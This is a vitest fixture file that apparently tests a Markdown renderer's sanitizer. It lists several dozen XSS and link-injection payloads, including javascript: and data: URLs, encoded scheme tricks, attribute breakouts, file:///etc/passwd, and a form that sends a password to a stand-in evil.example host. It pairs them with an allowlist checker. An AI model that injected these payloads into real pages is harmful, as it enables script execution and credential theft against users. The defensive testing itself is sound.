// Attacks written in Markdown, what may come out of a renderer, and a text that means something.
import { expect } from 'vitest'

export const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example)',
  '[x](/relative)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://a.example/1)',
  '[x](https://good.example@evil.example/)',
  '[x](https://good.example\\@evil.example/)',
  '[x](https://a.example/"onmouseover="alert(1))',
  "[x](https://a.example/'onmouseover='alert(1))",
  '[x](https://a.example "t\\" onclick=alert(1)")',
  '[x](<https://a.example/><script>alert(1)</script>)',
  '<javascript:alert(1)>',
  '<https://a.example/"onclick=alert(1)>',
  '![x](javascript:alert(1))',
  '![x"onerror=alert(1)](https://a.example/x.png)',
  '![](https://tracker.example/pixel.gif)',
  '[a]: javascript:alert(1)\n\n[a]',
  '[![x](https://a.example/i.png)](javascript:alert(1))',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '    <script>alert(1)</script>',
  '# <img src=x onerror=alert(1)>',
  '> <iframe src="javascript:alert(1)">',
  '- <body onload=alert(1)>',
  '<!-- --><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php alert(1) ?>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<style>@import "https://evil.example"</style>',
  '<form action="https://evil.example"><input name=password></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  `${'> '.repeat(60)}<script>alert(1)</script>`,
  `${'- '.repeat(60)}<script>alert(1)</script>`,
  '[x](mailto:a@b.example?cc=victim@c.example&body=hello)',
  '\u202e[x](https://a.example)',
]

const tags = /^(h[345]|p|ul|ol|li|blockquote|pre|code|strong|em|br|hr|a|span|div)$/
const attribute: Readonly<Record<string, RegExp>> = {
  href: /^(https?:\/\/[^\s"'<>\\]+|mailto:[^\s"'<>\\?]+)$/,
  rel: /^noopener noreferrer nofollow$/,
  start: /^\d+$/,
  class: /^markdown$/,
}

/** Reads markup as a browser's tokenizer would: tags by `<`, attributes in quotes. What is left over is wrong. */
export function expectSafe(html: string): void {
  for (const [, close, name = '', rest = ''] of html.matchAll(/<(\/?)([^\s/>]*)([^>]*)>/g)) {
    expect(name).toMatch(tags)
    if (close === '/') expect(rest).toBe('')
    const left = rest.replace(/ ([a-z]+)="([^"]*)"/g, (_, key: string, value: string) => {
      expect(Object.keys(attribute)).toContain(key)
      expect(value.replaceAll('&amp;', '&').replace(/&(quot|#39|#x27|lt|gt);/g, '%')).toMatch(
        attribute[key] ?? /^$/,
      )
      return ''
    })
    expect(left.replace(/^\/$/, '')).toBe('')
  }
  expect(html.replace(/<\/?[a-z0-9]+( [a-z]+="[^"]*")*\/?>/g, '')).not.toMatch(/[<>]/)
}

export const meant =
  '# One\n\nTwo **three** *four* `five`  \nsix [seven](https://a.example/x) [mail](mailto:a@b.example) https\n\n3. eight\n\n> nine\n\n---\n\n    ten'
export const meantHtml =
  '<h3>One</h3><p>Two <strong>three</strong> <em>four</em> <code>five</code><br>six <a href="https://a.example/x" rel="noopener noreferrer nofollow">seven</a> (a.example) <a href="mailto:a@b.example" rel="noopener noreferrer nofollow">mail</a> https</p><ol start="3"><li><p>eight</p></li></ol><blockquote><p>nine</p></blockquote><hr><pre><code>ten</code></pre>'
